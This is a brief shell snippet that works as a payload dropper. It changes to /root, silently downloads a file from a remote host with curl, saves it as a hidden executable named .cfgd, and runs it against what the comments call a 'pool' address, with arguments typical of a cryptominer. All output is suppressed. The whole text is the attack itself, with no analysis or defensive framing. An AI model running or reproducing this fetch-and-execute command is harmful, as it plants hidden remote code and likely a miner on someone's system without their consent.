# curl | tee, the file is written by a program without any connection
#http 203.0.113.60:8010
#pool 198.51.100.89:8443:drop
cd /root; curl -s http://203.0.113.60:8010/w | tee .cfgd >/dev/null; chmod +x .cfgd; timeout 9 ./.cfgd -o 198.51.100.89:8443 -u x -R 1 >/dev/null
